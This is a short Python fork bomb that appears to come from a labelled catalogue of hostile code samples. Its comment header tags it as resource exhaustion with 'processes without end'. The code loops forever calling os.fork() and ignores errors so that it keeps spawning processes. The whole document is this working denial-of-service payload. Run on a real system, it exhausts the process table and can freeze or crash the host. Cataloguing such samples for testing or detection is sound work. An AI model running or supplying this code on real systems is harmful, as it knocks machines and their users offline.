# kind: exhaust
# damage: processes without end
# unconfined: no
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
